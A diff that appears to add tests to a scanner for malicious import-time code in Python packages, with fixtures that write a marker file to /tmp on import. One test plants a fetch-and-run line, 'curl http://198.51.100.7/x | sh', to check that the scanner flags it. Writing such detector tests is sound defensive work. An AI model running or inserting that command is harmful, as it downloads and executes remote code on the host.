@@ -51,3 +51,26 @@ def test_a_hyphenated_module_the_package_imports_by_its_name_still_runs_on_impor
     assert_high_with(
         "hyphen import", scan(files, tmp_path), {"place.import_time", "chain.download_execute"}
     )
+
+
+# ---------------------------------------------------------------- a one-word marker file
+# safe_init's Lambda handler module writes "OK" to /tmp/<module>__<hash>__ on import, to tell
+# a second cold start from the first: a flag like an empty marker, no payload in it.
+MARKER = (
+    "import hashlib\nimport os\n\n\ndef _stamp():\n"
+    "    h = hashlib.md5(__file__.encode()).hexdigest()\n"
+    "    if not os.path.exists(f'/tmp/{__name__}__{h}__'):\n"
+    "        with open(f'/tmp/{__name__}__{h}__', 'w') as f:\n"
+    "            f.write({payload})\n\n\n_stamp()\n"
+)
+
+
+def test_a_marker_file_holding_one_word_is_not_an_import_time_act(tmp_path):
+    files = {"pkg/__init__.py": "", "pkg/handler.py": MARKER.replace("{payload}", "'OK'")}
+    _below_high(scan(files, tmp_path))
+
+
+def test_a_file_written_to_the_temp_folder_with_a_command_in_it_is_still_caught(tmp_path):
+    command = "'curl http://198.51.100.7/x | sh'"
+    files = {"pkg/__init__.py": "", "pkg/handler.py": MARKER.replace("{payload}", command)}
+    assert_high_with("temp script", scan(files, tmp_path), {"place.import_time"})
